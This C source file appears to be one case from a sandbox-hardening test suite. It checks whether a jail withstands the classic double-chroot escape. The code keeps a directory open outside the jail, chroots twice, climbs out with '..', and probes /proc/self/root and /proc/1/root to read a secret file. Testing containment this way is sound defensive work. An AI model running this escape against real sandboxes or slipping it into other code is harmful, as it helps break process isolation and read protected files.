// attempt: Leaves the root directory as one leaves a chroot: with a directory open outside of a second one; and
//     climbs by ".." from every directory that it can open.
// known-from: technique: the classic double chroot; a jail that is a chroot alone ends here
// held-by: filter, capabilities, mounts
// must: held
// control: bare root
// needs: secret
#include "escape.h"

#include <sys/stat.h>

static void look(const char *secret) {
    char token[100] = "";
    int fd = open(secret, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && read(fd, token, sizeof token - 1) > 0) escaped("%.*s", (int)strcspn(token, "\n"), token);
}

static void climb(void) {
    for (int i = 0; i < 64; i++)
        if (chdir("..")) return;
}

int main(void) {
    const char *secret = getenv("ESCAPE_SECRET") + 1; /* from the root, wherever that is */
    if (mkdir("jail", 0700) || mkdir("second", 0700)) return 1;
    int outside = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int jailed = !chroot("jail"); /* where it may, it is in a jail of that kind from here on */
    int first = errno;
    mkdir("second", 0700);
    int again = !chroot("second");
    int second = errno;
    if (jailed && !again) return 1;
    fchdir(outside);
    climb();
    if (again && chroot(".")) return 1;
    look(secret);
    const char *starts[] = {"/", "/proc/self/cwd", "/proc/self/root", "/proc/1/cwd", "/proc/1/root", "/usr"};
    for (size_t i = 0; i < sizeof starts / sizeof *starts; i++) {
        if (chdir(starts[i])) continue;
        climb();
        look(secret);
    }
    held("chroot: %s, %s; and no way up", strerrorname_np(first), strerrorname_np(second));
}
